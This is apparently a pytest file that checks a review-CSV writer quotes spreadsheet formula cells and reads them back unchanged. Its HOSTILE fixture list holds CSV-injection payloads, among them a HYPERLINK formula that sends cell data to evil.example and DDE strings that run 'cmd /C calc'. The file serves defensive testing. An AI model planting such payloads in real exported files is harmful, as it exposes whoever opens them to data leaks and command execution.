"""Review CSVs opened in a spreadsheet: no cell may start like a formula, and what is read back is what was written."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from monitor.calibration.labels import ReviewRow, read_rows, write_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


def hostile_row(text: str, n: int) -> ReviewRow:
    return ReviewRow(
        conversation_id=text,
        turn_no=n,
        turn="Agent",
        agent=text,
        release=text,
        verdict="fail",
        failure_reason="inconsistent_response",
        detail=text,
        score=0.25,
        margin=-0.25,
        label="pass",
        note=text,
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_cells_are_quoted_on_write_and_read_back_as_they_were(tmp_path: Path, text: str) -> None:
    rows = [hostile_row(text, 1)]
    path = tmp_path / "review.csv"
    write_csv(rows, path)
    with path.open(newline="", encoding="utf-8") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), f"a cell a spreadsheet would run: {cell!r}"
        assert not cell.startswith("-") or cell == "-0.25", f"a cell a spreadsheet would run: {cell!r}"
    assert [row for _, row in read_rows(path)] == rows


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    path = tmp_path / "review.csv"
    write_csv([hostile_row("plain", 2)], path)
    with path.open(newline="", encoding="utf-8") as fh:
        [row] = list(csv.DictReader(fh))
    assert (row["score"], row["margin"], row["conversation_id"]) == ("0.25", "-0.25", "plain")
